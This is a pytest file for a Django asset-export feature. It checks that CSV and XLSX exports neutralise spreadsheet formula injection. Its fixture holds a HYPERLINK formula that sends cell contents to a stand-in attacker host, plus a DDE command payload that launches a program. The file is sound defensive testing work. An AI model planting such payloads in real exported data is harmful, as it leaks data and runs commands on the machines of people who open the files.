"""Asset exports never write a formula: an asset called `=HYPERLINK(…)` stays text in CSV and XLSX."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import AssetFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def booby_trapped_asset(transport, bus_shelter):
    return AssetFactory(
        department=transport,
        category=bus_shelter,
        external_ref="BS-1",
        name=HYPERLINK,
        area="@SUM(1+1)*cmd|' /C calc'!A0",
        longitude=Decimal("-3.703790"),
        latitude=Decimal("40.416775"),
    )


def test_csv_export_writes_formula_text_with_a_leading_quote_and_numbers_as_numbers(
    client_for, transport_viewer, booby_trapped_asset
):
    response = client_for(transport_viewer).get(reverse("departments:asset-export", args=["csv"]))
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["name"] == "'" + HYPERLINK
    assert row["area"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["longitude"] == "-3.703790"  # a negative number is a number, not text to neutralise
    assert row["replacement_cost"] == "800.00"


def test_xlsx_export_writes_formula_text_as_a_string_cell_and_numbers_as_number_cells(
    client_for, transport_viewer, booby_trapped_asset
):
    response = client_for(transport_viewer).get(reverse("departments:asset-export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    longitude = sheet.cell(row=2, column=header.index("longitude") + 1)
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert (longitude.value, longitude.data_type) == (pytest.approx(-3.70379), "n")
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
